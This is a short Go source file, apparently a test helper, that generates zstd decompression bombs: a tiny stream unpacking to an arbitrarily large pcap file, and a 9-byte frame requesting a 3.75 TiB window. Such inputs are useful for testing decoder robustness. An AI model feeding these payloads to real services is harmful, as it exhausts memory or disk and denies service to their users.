package attack

import "encoding/binary"

// Bomb returns a small file of zstd that unpacks to a pcap file of at least size bytes. They are
// zeros, which are packets without bytes. A MiB takes 32 bytes of the file.
func Bomb(size int) []byte {
	const (
		raw, repeated, last = 0 << 1, 1 << 1, 1 // of blocks (RFC 8878 section 3.1.1.2)
		most                = 128 << 10         // bytes of a block
		window              = 7 << 3            // 128 KiB (section 3.1.1.1.2)
	)
	header := []byte{0xD4, 0xC3, 0xB2, 0xA1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0}
	b := []byte{0x28, 0xB5, 0x2F, 0xFD, 0, window}
	b = append(appendBlock(b, raw, len(header)), header...)
	for ; size > most; size -= most {
		b = append(appendBlock(b, repeated, most), 0)
	}
	return append(appendBlock(b, repeated|last, most), 0)
}

// appendBlock appends the header of a block.
func appendBlock(b []byte, kind uint32, size int) []byte {
	h := binary.LittleEndian.AppendUint32(nil, kind|uint32(size)<<3)
	return append(b, h[:3]...)
}

// WideBomb returns a file of zstd that requests a window of 3.75 TiB, the largest possible.
func WideBomb() []byte { return []byte{0x28, 0xB5, 0x2F, 0xFD, 0, 0xFF, 1, 0, 0} }
